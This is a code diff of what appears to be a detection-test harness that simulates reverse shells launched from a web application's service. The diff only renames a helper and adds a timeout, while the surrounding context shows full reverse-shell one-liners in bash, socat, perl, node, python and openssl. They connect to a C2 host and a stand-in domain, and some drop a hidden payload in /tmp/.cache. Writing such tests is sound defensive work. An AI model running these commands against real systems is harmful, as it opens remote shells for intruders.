@@ -13,9 +13,9 @@ SERVICE = "shop.service"
 """The shells' parents are a web application's: nobody is at a terminal there."""
 
 
-def _over(operator: Operator, actor: Actor) -> None:
+def over(operator: Operator, actor: Actor, seconds: float = 20) -> None:
     """The operator said goodbye and had an answer."""
-    actor.wait(20)
+    actor.wait(seconds)
     if not operator.answered:
         raise ScenarioError(f"no answer to id: {operator.heard} {actor.said()[-200:]}")
 
@@ -30,7 +30,7 @@ def _over(operator: Operator, actor: Actor) -> None:
 def bash(world: World) -> None:
     operator = waits(world, C2, 4444)
     world.mark()
-    _over(operator, world.start("bash", "-c", f"bash -i >& /dev/tcp/{C2}/4444 0>&1", unit=SERVICE))
+    over(operator, world.start("bash", "-c", f"bash -i >& /dev/tcp/{C2}/4444 0>&1", unit=SERVICE))
 
 
 @attack(
@@ -45,7 +45,7 @@ def fifo(world: World) -> None:
     operator = waits(world, C2, 4445)
     command = f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | socat - TCP:{C2}:4445 > /tmp/f"
     world.mark()
-    _over(operator, world.start("sh", "-c", command, unit=SERVICE))
+    over(operator, world.start("sh", "-c", command, unit=SERVICE))
 
 
 @attack(
@@ -59,9 +59,7 @@ def fifo(world: World) -> None:
 def socat(world: World) -> None:
     operator = waits(world, C2, 4446)
     world.mark()
-    _over(
-        operator, world.start("socat", f"TCP:{C2}:4446", "EXEC:'bash -i',pty,stderr,setsid,sigint,sane", unit=SERVICE)
-    )
+    over(operator, world.start("socat", f"TCP:{C2}:4446", "EXEC:'bash -i',pty,stderr,setsid,sigint,sane", unit=SERVICE))
 
 
 @attack(
@@ -75,7 +73,7 @@ def python_dup(world: World) -> None:
     operator = waits(world, C2, 443)
     path = world.program("/tmp/.cache/upd.py", "shells.py")
     world.mark()
-    _over(operator, world.script(path, "dup", C2, "443", unit=SERVICE))
+    over(operator, world.script(path, "dup", C2, "443", unit=SERVICE))
 
 
 @attack(
@@ -89,7 +87,7 @@ def python_pty(world: World) -> None:
     operator = waits(world, C2, 8443)
     path = world.program("/tmp/.cache/upd.py", "shells.py")
     world.mark()
-    _over(operator, world.script(path, "pty", C2, "8443", unit=SERVICE))
+    over(operator, world.script(path, "pty", C2, "8443", unit=SERVICE))
 
 
 @attack(
@@ -103,7 +101,7 @@ def python_pipes(world: World) -> None:
     operator = waits(world, C2, 8080)
     path = world.program("/tmp/.cache/upd.py", "shells.py")
     world.mark()
-    _over(operator, world.script(path, "pipes", C2, "8080", unit=SERVICE))
+    over(operator, world.script(path, "pipes", C2, "8080", unit=SERVICE))
 
 
 @attack(
@@ -117,7 +115,7 @@ def commands(world: World) -> None:
     operator = waits(world, C2, 9443)
     path = world.program("/tmp/.cache/upd.py", "shells.py")
     world.mark()
-    _over(operator, world.script(path, "commands", C2, "9443", unit=SERVICE))
+    over(operator, world.script(path, "commands", C2, "9443", unit=SERVICE))
 
 
 @attack(
@@ -135,7 +133,7 @@ def perl(world: World) -> None:
         'open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'
     )
     world.mark()
-    _over(operator, world.start("perl", "-e", code, unit=SERVICE))
+    over(operator, world.start("perl", "-e", code, unit=SERVICE))
 
 
 @attack(
@@ -153,7 +151,7 @@ def node(world: World) -> None:
         "s.pipe(p.stdin);p.stdout.pipe(s);p.stderr.pipe(s);p.on('exit',()=>s.end())})"
     )
     world.mark()
-    _over(operator, world.start("node", "-e", code, unit=SERVICE))
+    over(operator, world.start("node", "-e", code, unit=SERVICE))
 
 
 @attack(
@@ -169,4 +167,4 @@ def openssl(world: World) -> None:
     client = "openssl s_client -quiet -connect sync.cdn-edge.example:443"
     command = f"mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | {client} > /tmp/s 2>/dev/null"
     world.mark()
-    _over(operator, world.start("sh", "-c", f"{command}; rm -f /tmp/s", unit=SERVICE))
+    over(operator, world.start("sh", "-c", f"{command}; rm -f /tmp/s", unit=SERVICE))
